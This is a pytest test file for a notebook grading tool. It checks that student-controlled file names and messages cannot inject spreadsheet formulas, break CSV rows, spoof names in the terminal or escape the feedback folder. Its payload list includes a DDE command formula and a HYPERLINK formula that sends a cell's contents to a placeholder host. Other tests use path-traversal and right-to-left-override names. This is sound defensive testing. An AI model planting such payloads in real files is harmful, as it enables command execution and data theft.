"""course-grade's outputs: nothing a submission controls can alter, leak or be lost.

Everything a submission controls (its file name, the notes and flags about it, printed and error
text) reaches the gradebook CSVs, the feedback files and the summary on the instructor's
terminal. These tests call the writers directly (no notebook is executed):

- no text cell of either CSV is a spreadsheet formula (CSV/formula injection, OWASP): a text that
  starts with ``= + - @``, TAB, CR, LF or NUL (or their full-width forms) gets a leading ``'``,
  every text cell is quoted (a semicolon-locale spreadsheet cannot split it), while the numeric
  columns stay unquoted real numbers;
- control and invisible format characters, and bytes that are not UTF-8, are shown as escapes:
  rows never break and writing never fails after a long grading run;
- two submissions never share a feedback file (case, NFC/NFD, unsafe characters, Windows names,
  long names, ``kim.ipynb`` next to ``kim.txt``), and no name leaves the feedback folder;
- outputs are replaced atomically; stale feedback files of an earlier run are removed only when
  course-grade wrote them, other files are kept and reported;
- the submissions folder (odd names, unreadable files, symlinks) is byte- and mtime-identical
  after a run, and no output may be placed inside it.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import stat
import unicodedata
import zipfile
from pathlib import Path

import nbformat
import pytest

from helpers.authoring import grade, notebook_io, tamper_probe

QUESTIONS = ["q1", "q2"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://example.invalid/?\"&A1, \"클릭\")",
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "x;=1+1",  # a spreadsheet that splits on ';' (many European locales) would see "=1+1"
    "x\t=1+1",
]


def result(file: str, *, student: str | None = None, note: str = "", flag: str = "", message: str = "",
           graded: bool = True) -> grade.SubmissionResult:
    r = grade.SubmissionResult(file=file, student=Path(file).stem if student is None else student)
    if graded:
        r.lesson = "99_fake"
        r.max_scores = {"q1": 2.0, "q2": 2.0}
        r.scores = {"q1": 1.5, "q2": 0.0}
        r.cases = {"q1": [{"name": "q1 - 1", "hidden": False, "passed": False, "failure_message": message,
                           "message": message}], "q2": []}
        r.seconds = 12.5
    else:
        r.status = "invalid_notebook"
    if note:
        r.notes.append(note)
    if flag:
        r.flags.append(flag)
        r.status = "review"
    return r


def read_typed(path: Path) -> list[list[str | float]]:
    """Rows as a spreadsheet sees them: quoted cells are text, unquoted cells must be numbers."""
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.reader(f, quoting=csv.QUOTE_NONNUMERIC))


def assert_no_formula(path: Path, numeric_columns: set[str]) -> list[dict[str, str | float]]:
    raw = path.read_bytes().decode("utf-8-sig")  # strict: every byte is UTF-8
    typed = read_typed(path)
    header = [str(h) for h in typed[0]]
    rows = [dict(zip(header, row, strict=True)) for row in typed[1:]]
    for row in rows:
        for column, cell in row.items():
            if column in numeric_columns:
                assert isinstance(cell, float) or cell == "", (column, cell)
            else:
                assert isinstance(cell, str), (column, cell)  # quoted: text, never a number or formula
                assert cell.lstrip()[:1] not in DANGEROUS and cell[:1] not in DANGEROUS, (column, cell)
    # one record per row: no raw line break outside a quoted message cell, no tab anywhere
    assert "\t" not in raw and "\r" not in raw.replace("\r\n", "")
    assert len(list(csv.reader(io.StringIO(raw)))) == len(typed)
    return rows


# --------------------------------------------------------------------------------------------
# 1. formula injection
# --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(p) for p in PAYLOADS])
def test_no_text_cell_is_a_formula(tmp_path, payload):
    results = [
        result(f"{payload}.ipynb", student=payload, note=payload, flag=payload, message=payload),
        result(f"{payload}.txt", student=payload, graded=False, note=payload),
        result("plain.ipynb"),
    ]
    grade.write_gradebook(tmp_path / "gradebook.csv", results, QUESTIONS)
    grade.write_detail(tmp_path / "detail.csv", results)
    rows = assert_no_formula(tmp_path / "gradebook.csv", {*QUESTIONS, "total", "max_total", "percent", "seconds"})
    detail = assert_no_formula(tmp_path / "detail.csv", {"score", "max"})
    assert len(rows) == 3 and len(detail) == 4
    first = rows[0]
    if payload.lstrip(" ")[:1] in DANGEROUS and "\n" not in payload and "\r" not in payload and "\t" not in payload:
        # neutralised by one leading quote, otherwise unchanged: the instructor still reads it
        assert first["file"] == f"'{payload}.ipynb" and first["student"] == f"'{payload}"
        assert first["note"] == f"'{payload}" and first["flags"] == f"'{payload}"
    assert any(payload.strip() in str(d["failures"]) or "\\" in str(d["failures"]) for d in detail)


def test_numeric_columns_stay_numbers_and_text_stays_text(tmp_path):
    graded = result("-kim.ipynb", note="-1")
    graded.scores = {"q1": 1.5, "q2": 2.0}
    results = [graded, result("0012.ipynb"), result("broken.ipynb", graded=False)]
    grade.write_gradebook(tmp_path / "gradebook.csv", results, QUESTIONS)
    grade.write_detail(tmp_path / "detail.csv", results)
    rows = {row["file"]: row for row in assert_no_formula(
        tmp_path / "gradebook.csv", {*QUESTIONS, "total", "max_total", "percent", "seconds"})}
    kim = rows["'-kim.ipynb"]
    assert (kim["q1"], kim["q2"], kim["total"], kim["max_total"], kim["percent"], kim["seconds"]) == (
        1.5, 2.0, 3.5, 4.0, 87.5, 12.5)
    assert kim["note"] == "'-1" and kim["status"] == "ok"
    assert rows["0012.ipynb"]["student"] == "0012"  # text, quoted
    broken = rows["broken.ipynb"]
    assert (broken["q1"], broken["total"], broken["max_total"], broken["status"]) == ("", 0.0, "", "invalid_notebook")
    detail = assert_no_formula(tmp_path / "detail.csv", {"score", "max"})
    assert [(d["question"], d["score"], d["max"]) for d in detail if d["file"] == "'-kim.ipynb"] == [
        ("q1", 1.5, 2.0), ("q2", 2.0, 2.0)]
    # a huge text (e.g. a notebook's metadata) is cut to what a spreadsheet cell holds
    huge = result("huge.ipynb", note="가" * 100_000)
    grade.write_gradebook(tmp_path / "huge.csv", [huge], QUESTIONS)
    note = assert_no_formula(tmp_path / "huge.csv", {*QUESTIONS, "total", "max_total", "percent", "seconds"})[0]["note"]
    assert note.startswith("가" * grade.CELL_CHARS) and "68000자 생략" in str(note) and len(note) < 32_767
    # the file still reads with the ordinary csv module as before
    with open(tmp_path / "gradebook.csv", newline="", encoding="utf-8-sig") as f:
        plain = list(csv.DictReader(f))
    assert plain[0]["file"] == "'-kim.ipynb" and plain[0]["total"] == "3.5"


# --------------------------------------------------------------------------------------------
# 5. control characters, non-UTF-8 names, NUL
# --------------------------------------------------------------------------------------------
ODD_TEXT = {
    "new\nline": "new\\nline",
    "carriage\rreturn": "carriage\\rreturn",
    "tab\there": "tab\\there",
    "\x1b[2Jclear": "\\x1b[2Jclear",
    "nul\x00byte": "nul\\x00byte",
    "rlo\u202egnp.exe": "rlo\\u202egnp.exe",
    "zero\u200bwidth": "zero\\u200bwidth",
    "line\u2028sep": "line\\u2028sep",
    "bad\udcffbyte": "bad\\xffbyte",  # a non-UTF-8 byte of a file name (surrogateescape)
}


def test_control_characters_and_bad_bytes_are_escaped_and_rows_stay_whole(tmp_path):
    results = [result(f"{name}.ipynb", note=f"{name}\r\nsecond line", flag=name, message=f"{name}\x00")
               for name in ODD_TEXT]
    grade.write_gradebook(tmp_path / "gradebook.csv", results, QUESTIONS)
    grade.write_detail(tmp_path / "detail.csv", results)
    rows = assert_no_formula(tmp_path / "gradebook.csv", {*QUESTIONS, "total", "max_total", "percent", "seconds"})
    assert [row["file"] for row in rows] == [f"{shown}.ipynb" for shown in ODD_TEXT.values()]
    assert [row["student"] for row in rows] == list(ODD_TEXT.values())
    for row, shown in zip(rows, ODD_TEXT.values(), strict=True):
        # in message cells a line break stays (CR LF and CR become LF); every other control is escaped
        shown = {"new\\nline": "new\nline", "carriage\\rreturn": "carriage\nreturn"}.get(shown, shown)
        assert row["note"] == f"{shown}\nsecond line"
    detail = assert_no_formula(tmp_path / "detail.csv", {"score", "max"})
    assert len(detail) == 2 * len(ODD_TEXT)
    raw = (tmp_path / "detail.csv").read_text(encoding="utf-8-sig")
    assert "\x00" not in raw and "\x1b" not in raw and "\u202e" not in raw


def test_summary_and_feedback_show_escapes_not_terminal_controls(tmp_path):
    results = [result(f"{name}.ipynb", message=name) for name in ODD_TEXT]
    report = grade.GradeReport(results, QUESTIONS, None, None, None, grade.sandbox.NO_ISOLATION, 1.0)
    summary = grade.summary_table(report)
    text = "".join(grade.feedback_text(r) for r in results)
    for shown_in in (summary, text):
        assert not any(unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in shown_in if c != "\n")
    assert "\\x1b[2Jclear.ipynb" in summary and "파일: \\x1b[2Jclear.ipynb" in text
    text.encode("utf-8")  # no surrogate left


# --------------------------------------------------------------------------------------------
# 2. feedback file names
# --------------------------------------------------------------------------------------------
def key(name: str) -> str:
    return unicodedata.normalize("NFC", unicodedata.normalize("NFC", name).casefold())


NFC = unicodedata.normalize("NFC", "김철수")
NFD = unicodedata.normalize("NFD", "김철수")
WINDOWS_UNSAFE = set('<>:"/\\|?*')
LONG = "a" * 253  # "a" * 253 + ".c" is a legal name (255 bytes); "a" * 253 + ".txt" is not


def test_feedback_names_never_collide_and_never_leave_the_folder(tmp_path):
    files = ["Kim.ipynb", "kim.ipynb", "KIM.IPYNB", "kim.txt", "kim~2.ipynb", f"{NFC}.ipynb", f"{NFD}.ipynb",
             "kim?.ipynb", "kim*.ipynb", "kim_.ipynb", "CON.ipynb", "aux.x.ipynb", "com1 .ipynb", "a..ipynb",
             "a.ipynb", f"{LONG}.c", f"{LONG}.d", "new\nline.ipynb", "bad\udcffbyte.ipynb", "..\\..\\up.ipynb",
             "-=1+1.ipynb", "\u202eexe.ipynb", "plain.ipynb", "gradebook.ipynb"]
    results = [result(f, student=unicodedata.normalize("NFC", Path(f).stem)) for f in files]
    names = grade.assign_feedback_files(results, reserved=["Gradebook.txt"])
    assert set(names) == set(files)
    values = list(names.values())
    assert len({key(n) for n in values}) == len(files), "두 제출물이 같은 피드백 파일을 씁니다"
    for name in values:
        assert name.endswith(".txt") and not name.startswith(".") and not set(name) & WINDOWS_UNSAFE
        assert len(name.encode("utf-8")) <= 200 and name == unicodedata.normalize("NFC", name)
        assert not any(unicodedata.category(c)[0] == "C" for c in name), name
        assert name.split(".")[0].rstrip(" ").upper() not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT1"}
        assert (tmp_path / name).resolve().parent == tmp_path.resolve()
    # the rule: sanitised name, first in file-name order keeps it, the others get ~2, ~3, ...
    assert names["plain.ipynb"] == "plain.txt"
    assert (names["KIM.IPYNB"], names["Kim.ipynb"], names["kim.ipynb"], names["kim.txt"]) == (
        "KIM.txt", "Kim~3.txt", "kim~4.txt", "kim~5.txt")
    assert names["kim~2.ipynb"] == "kim~2.txt"  # a real name is never taken by a suffix
    assert (names[f"{NFC}.ipynb"], names[f"{NFD}.ipynb"]) == (f"{NFC}.txt", f"{NFC}~2.txt")  # unchanged name first
    assert (names["kim*.ipynb"], names["kim?.ipynb"], names["kim_.ipynb"]) == ("kim_~2.txt", "kim_~3.txt", "kim_.txt")
    assert names["CON.ipynb"] == "_CON.txt" and names["aux.x.ipynb"] == "_aux.x.txt"
    assert names["com1 .ipynb"] == "_com1.txt"
    assert (names["a.ipynb"], names["a..ipynb"]) == ("a.txt", "a~2.txt")  # Windows drops a trailing dot
    assert names["gradebook.ipynb"] == "gradebook~2.txt"  # the reserved name, case-insensitively
    assert names["..\\..\\up.ipynb"] == "_.._.._up.txt" and names["-=1+1.ipynb"] == "_-=1+1.txt"
    assert names[f"{LONG}.c"] == "a" * grade.FEEDBACK_STEM_BYTES + ".txt"
    assert names[f"{LONG}.d"] == "a" * grade.FEEDBACK_STEM_BYTES + "~2.txt"
    # the gradebook says which feedback file a renamed student got; unchanged names say nothing
    kim = next(r for r in results if r.file == "kim.ipynb")
    assert kim.feedback_file == "kim~4.txt"
    assert "kim~4.txt" in grade.gradebook_row(kim, QUESTIONS)["note"]
    assert "피드백" not in grade.gradebook_row(next(r for r in results if r.file == "plain.ipynb"), QUESTIONS)["note"]
    assert "kim~4.txt" not in grade.feedback_text(kim)  # an instructor note, not a reason for the student
    # the same names whatever order the results come in
    shuffled = [result(f, student=unicodedata.normalize("NFC", Path(f).stem)) for f in files]
    random.Random(0).shuffle(shuffled)
    assert grade.assign_feedback_files(shuffled, reserved=["Gradebook.txt"]) == names
    # and every file is really written, none overwrites another
    grade.write_feedback(tmp_path, results)
    written = sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("."))
    assert sorted(written) == sorted(values)


# --------------------------------------------------------------------------------------------
# 3. atomic writes, stale outputs
# --------------------------------------------------------------------------------------------
def test_csv_is_replaced_atomically_and_an_interrupted_write_keeps_the_old_file(tmp_path, monkeypatch):
    path = tmp_path / "gradebook.csv"
    path.write_text("OLD", encoding="utf-8")
    real = grade.gradebook_row
    calls = []

    def failing(r, questions):
        calls.append(r.file)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real(r, questions)

    monkeypatch.setattr(grade, "gradebook_row", failing)
    with pytest.raises(KeyboardInterrupt):
        grade.write_gradebook(path, [result("a.ipynb"), result("b.ipynb")], QUESTIONS)
    assert path.read_text(encoding="utf-8") == "OLD" and sorted(os.listdir(tmp_path)) == ["gradebook.csv"]
    monkeypatch.setattr(grade, "gradebook_row", real)
    old_inode = path.stat().st_ino
    grade.write_gradebook(path, [result("a.ipynb"), result("b.ipynb")], QUESTIONS)
    assert sorted(os.listdir(tmp_path)) == ["gradebook.csv"] and path.stat().st_ino != old_inode  # replaced
    umask = os.umask(0)
    os.umask(umask)
    new = tmp_path / "new" / "detail.csv"
    grade.write_detail(new, [result("a.ipynb")])
    assert stat.S_IMODE(new.stat().st_mode) == 0o666 & ~umask  # as an ordinary file would be
    path.chmod(0o600)  # an instructor who keeps the gradebook private: a new run keeps it private
    grade.write_gradebook(path, [result("a.ipynb")], QUESTIONS)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    outside = tmp_path / "outside.csv"
    outside.write_text("keep", encoding="utf-8")
    link = tmp_path / "new" / "linked.csv"
    link.symlink_to(outside)
    grade.write_detail(link, [result("a.ipynb")])  # the link is replaced, its target never written
    assert outside.read_text(encoding="utf-8") == "keep" and not link.is_symlink()


def test_interrupted_feedback_write_keeps_the_old_file(tmp_path, monkeypatch):
    (tmp_path / "a.txt").write_text("OLD", encoding="utf-8")
    monkeypatch.setattr(grade, "feedback_text", lambda r: (_ for _ in ()).throw(KeyboardInterrupt()))
    with pytest.raises(KeyboardInterrupt):
        grade.write_feedback(tmp_path, [result("a.ipynb")])
    assert (tmp_path / "a.txt").read_text(encoding="utf-8") == "OLD" and os.listdir(tmp_path) == ["a.txt"]


def test_stale_feedback_of_an_earlier_run_is_removed_only_if_course_grade_wrote_it(tmp_path):
    folder = tmp_path / "feedback"
    folder.mkdir()
    (folder / "old_version.txt").write_text("an earlier course-grade without a manifest", encoding="utf-8")
    (folder / "memo.md").write_text("강사 메모", encoding="utf-8")
    assert grade.write_feedback(folder, [result("lee.ipynb"), result("park.ipynb")]) == ["old_version.txt"]
    assert (folder / grade.FEEDBACK_MANIFEST).is_file()
    lee_before = (folder / "lee.txt").read_text(encoding="utf-8")
    # second run: park left the folder, lee is graded again with another score
    lee = result("lee.ipynb")
    lee.scores["q2"] = 2.0
    left = grade.write_feedback(folder, [lee])
    assert sorted(os.listdir(folder)) == sorted(["lee.txt", "memo.md", "old_version.txt", grade.FEEDBACK_MANIFEST])
    assert left == ["old_version.txt"]  # not ours: kept, and reported
    assert (folder / "lee.txt").read_text(encoding="utf-8") != lee_before
    assert json.loads((folder / grade.FEEDBACK_MANIFEST).read_text(encoding="utf-8"))["files"] == ["lee.txt"]
    # a manifest that names something outside the folder, or a link, never deletes it
    outside = tmp_path / "outside.txt"
    outside.write_text("keep", encoding="utf-8")
    (folder / "link.txt").symlink_to(outside)
    manifest = {"files": ["lee.txt", "../outside.txt", str(outside), "link.txt", "..", "."]}
    (folder / grade.FEEDBACK_MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    grade.write_feedback(folder, [lee])
    assert outside.read_text(encoding="utf-8") == "keep" and (folder / "link.txt").is_symlink()


def test_a_renamed_case_only_feedback_file_is_not_deleted_on_a_case_insensitive_folder(tmp_path, monkeypatch):
    """Earlier run wrote ``Kim.txt``; now the only submission is ``kim.ipynb``. On a case-insensitive
    file system ``kim.txt`` *is* ``Kim.txt``: removing the stale name must not remove the new file."""
    folder = tmp_path / "feedback"
    grade.write_feedback(folder, [result("Kim.ipynb")])
    real_samefile = os.path.samefile
    monkeypatch.setattr(grade.os.path, "samefile",
                        lambda a, b: key(Path(a).name) == key(Path(b).name) or real_samefile(a, b))
    grade.write_feedback(folder, [result("kim.ipynb")])
    assert (folder / "kim.txt").is_file()
    assert json.loads((folder / grade.FEEDBACK_MANIFEST).read_text(encoding="utf-8"))["files"] == ["kim.txt"]


# --------------------------------------------------------------------------------------------
# 4. the submissions folder is never modified; outputs are never put inside it
# --------------------------------------------------------------------------------------------
def snapshot(folder: Path) -> dict[bytes, tuple]:
    """Every entry under ``folder`` (not following links): type, mode, size, mtime, bytes, target."""
    seen: dict[bytes, tuple] = {}
    for dirpath, dirnames, filenames in os.walk(os.fsencode(folder)):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            st = os.lstat(path)
            content: str | bytes = b""
            if stat.S_ISLNK(st.st_mode):
                content = os.readlink(path)
            elif stat.S_ISREG(st.st_mode):
                with open(path, "rb") as f:
                    content = hashlib.sha256(f.read()).hexdigest()
            seen[os.path.relpath(path, os.fsencode(folder))] = (st.st_mode, st.st_size, st.st_mtime_ns, content)
    seen[b"."] = (os.lstat(folder).st_mode, os.lstat(folder).st_mtime_ns)
    return seen


def fake_build(root: Path) -> Path:
    """A build folder with one autograder (no test files: no notebook is ever executed here)."""
    folder = root / "autograder"
    folder.mkdir(parents=True)
    with zipfile.ZipFile(folder / "99_fake.zip", "w"):
        pass
    (folder / "99_fake.json").write_text(json.dumps({"questions": [{"name": "q1", "points": 1}]}), encoding="utf-8")
    return root


@pytest.fixture
def odd_folder(tmp_path, monkeypatch):
    """Submissions with odd names that course-grade reads but never executes (unknown lesson,
    invalid JSON, not a notebook), an unreadable file, links, a subfolder and a hidden file."""
    monkeypatch.setattr(tamper_probe, "missing_targets", lambda *a, **k: [])  # no torch import
    nb = nbformat.v4.new_notebook()
    nb.metadata["otter"] = {"assignment_name": "77_nothing"}
    text = nbformat.writes(nb).encode("utf-8")
    subs = tmp_path / "submissions"
    subs.mkdir()
    names = ["=HYPERLINK(1).ipynb", "-2+3.ipynb", "@x.ipynb", "Kim.ipynb", "kim.ipynb", "kim.txt",
             f"{NFC}.ipynb", f"{NFD}.ipynb", "new\nline.ipynb", "\x1b[2Jclear.ipynb", "kim?.ipynb", "kim*.ipynb",
             "CON.ipynb", f"{LONG}.c", "rlo\u202egnp.ipynb"]
    for name in names:
        (subs / name).write_bytes(text)
    with open(os.path.join(os.fsencode(subs), b"bad\xffbyte.ipynb"), "wb") as f:
        f.write(text)
    (subs / "broken.ipynb").write_text('{"cells": [', encoding="utf-8")
    (subs / "locked.ipynb").write_bytes(text)
    (subs / "locked.ipynb").chmod(0)
    outside = tmp_path / "elsewhere.ipynb"
    outside.write_bytes(text)
    (subs / "link.ipynb").symlink_to(outside)
    (subs / "dangling.ipynb").symlink_to(tmp_path / "missing.ipynb")
    (subs / "folder_link").symlink_to(tmp_path)
    (subs / "sub").mkdir()
    (subs / "sub" / "inner.ipynb").write_bytes(text)
    (subs / ".hidden.ipynb").write_bytes(text)
    for path in subs.iterdir():  # old, distinct mtimes: any touch would show
        os.utime(path, ns=(1_000_000_000, 1_000_000_000 + len(path.name)), follow_symlinks=False)
    os.utime(subs, ns=(1_000_000_000, 1_000_000_000))
    yield subs
    (subs / "locked.ipynb").chmod(0o600)


def test_odd_submissions_folder_is_unchanged_and_every_output_is_whole(odd_folder, tmp_path, capsys):
    before = snapshot(odd_folder)
    out = tmp_path / "results"
    report = grade.grade_submissions(odd_folder, build_dir=fake_build(tmp_path / "build"), out=out / "gradebook.csv",
                                     detail=out / "detail.csv", feedback_dir=out / "feedback", isolate=False,
                                     jobs=2)
    assert snapshot(odd_folder) == before, "제출 폴더가 바뀌었습니다"
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\\x1b[2Jclear.ipynb" in printed
    # one row per file directly inside (regular files and links to files; a dangling link too)
    listed = sorted(os.listdir(os.fsencode(odd_folder)))
    expected = [n for n in listed if not n.startswith(b".") and n not in (b"sub", b"folder_link")]
    assert len(report.results) == len(expected) == 20
    statuses = {r.file: r.status for r in report.results}
    assert statuses["broken.ipynb"] == statuses["dangling.ipynb"] == "invalid_notebook"
    assert statuses["link.ipynb"] == statuses["kim.ipynb"] == "unknown_lesson"
    assert statuses["kim.txt"] == "not_a_notebook"
    link_note = next(r for r in report.results if r.file == "link.ipynb").instructor_notes
    assert any("심볼릭 링크" in n for n in link_note)
    rows = assert_no_formula(out / "gradebook.csv", {"total", "max_total", "percent", "seconds"})
    assert len(rows) == 20
    assert "'=HYPERLINK(1).ipynb" in [row["file"] for row in rows]
    assert "bad\\xffbyte.ipynb" in [row["file"] for row in rows]
    feedback = [p.name for p in (out / "feedback").iterdir() if not p.name.startswith(".")]
    assert len(feedback) == 20 and len({key(n) for n in feedback}) == 20
    assert not [p for p in out.rglob("*.tmp")]
    dangling = (out / "feedback" / "dangling.txt").read_text(encoding="utf-8")
    assert "FileNotFoundError" in dangling and str(tmp_path) not in dangling  # no grader path for the student


@pytest.mark.parametrize("where", ["out", "detail", "feedback_dir"])
def test_outputs_inside_the_submissions_folder_are_refused_before_grading(odd_folder, tmp_path, where):
    before = snapshot(odd_folder)
    paths = {"out": tmp_path / "gradebook.csv", "detail": tmp_path / "detail.csv", "feedback_dir": None}
    paths[where] = odd_folder / "sub" / "x" if where == "feedback_dir" else odd_folder / f"{where}.csv"
    with pytest.raises(grade.GradeError, match="제출 폴더"):
        grade.grade_submissions(odd_folder, build_dir=fake_build(tmp_path / "build"), isolate=False, verbose=False,
                                **paths)
    if where == "feedback_dir":
        with pytest.raises(grade.GradeError, match="제출 폴더"):
            grade.grade_submissions(odd_folder, build_dir=tmp_path / "build", isolate=False, verbose=False,
                                    out=None, detail=None, feedback_dir=odd_folder)
    assert snapshot(odd_folder) == before
    assert not (tmp_path / "gradebook.csv").exists()


def test_conflicting_outputs_are_refused_before_grading(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    build = fake_build(tmp_path / "build")
    (tmp_path / "a_folder").mkdir()
    (tmp_path / "a_file").write_text("x", encoding="utf-8")
    cases = [
        dict(out=tmp_path / "same.csv", detail=tmp_path / "same.csv"),
        dict(out=tmp_path / "Same.csv", detail=tmp_path / "same.csv"),  # one file on Windows/macOS
        dict(out=tmp_path / "a_folder", detail=None),
        dict(out=None, detail=tmp_path / "a_folder"),
        dict(out=None, detail=None, feedback_dir=tmp_path / "a_file"),
    ]
    for kwargs in cases:
        with pytest.raises(grade.GradeError):
            grade.grade_submissions(subs, build_dir=build, isolate=False, verbose=False, **kwargs)
    assert (tmp_path / "a_file").read_text(encoding="utf-8") == "x"
    assert not (tmp_path / "same.csv").exists() and os.listdir(tmp_path / "a_folder") == []


# --------------------------------------------------------------------------------------------
# End to end: one real grading (both runs) under an odd name
# --------------------------------------------------------------------------------------------
@pytest.mark.slow
def test_a_real_grading_under_an_odd_name(tmp_path):
    """A graded notebook whose name starts like a formula and holds a right-to-left override, next
    to a text file of the same stem: real scores as numbers, neutralised names, two feedback
    files, and the submissions folder (bytes and mtimes) as it was."""
    from fixtures import pipeline

    demo = pipeline.demo_build()
    wrong = notebook_io.fill_answers(pipeline.student_notebook(demo), pipeline.demo_wrong())
    subs = tmp_path / "submissions"
    subs.mkdir()
    stem = f"=Kim\u202e_{pipeline.DEMO}"
    pipeline.write(wrong, subs / f"{stem}.ipynb")
    (subs / f"{stem}.txt").write_text("제출 메모", encoding="utf-8")
    for path in subs.iterdir():
        os.utime(path, ns=(1_000_000_000, 1_000_000_000))
    before = snapshot(subs)
    out = tmp_path / "results"
    report = grade.grade_submissions(subs, build_dir=demo.build_dir, out=out / "gradebook.csv",
                                     detail=out / "detail.csv", feedback_dir=out / "feedback", timeout=600, jobs=1,
                                     verbose=False)
    assert snapshot(subs) == before
    graded = report.by_file(f"{stem}.ipynb")
    assert (graded.status, graded.scores) == ("ok", {"l99_normalize": 0.0, "l99_relu": 1.0}), graded.notes
    rows = assert_no_formula(out / "gradebook.csv", {"l99_normalize", "l99_relu", "total", "max_total", "percent",
                                                     "seconds"})
    shown = f"'=Kim\\u202e_{pipeline.DEMO}"
    assert [(r["file"], r["student"], r["total"], r["max_total"]) for r in rows] == [
        (f"{shown}.ipynb", shown, 1.0, 4.0), (f"{shown}.txt", shown, 0.0, "")]
    assert_no_formula(out / "detail.csv", {"score", "max"})
    names = {r.file: r.feedback_file for r in report.results}
    assert names == {f"{stem}.ipynb": f"=Kim__{pipeline.DEMO}.txt", f"{stem}.txt": f"=Kim__{pipeline.DEMO}~2.txt"}
    text = (out / "feedback" / names[f"{stem}.ipynb"]).read_text(encoding="utf-8")
    assert "[l99_normalize] 0 / 2" in text and "확률의 합이 1이 아닙니다" in text and "\u202e" not in text
    assert "노트북 아님" in (out / "feedback" / names[f"{stem}.txt"]).read_text(encoding="utf-8")
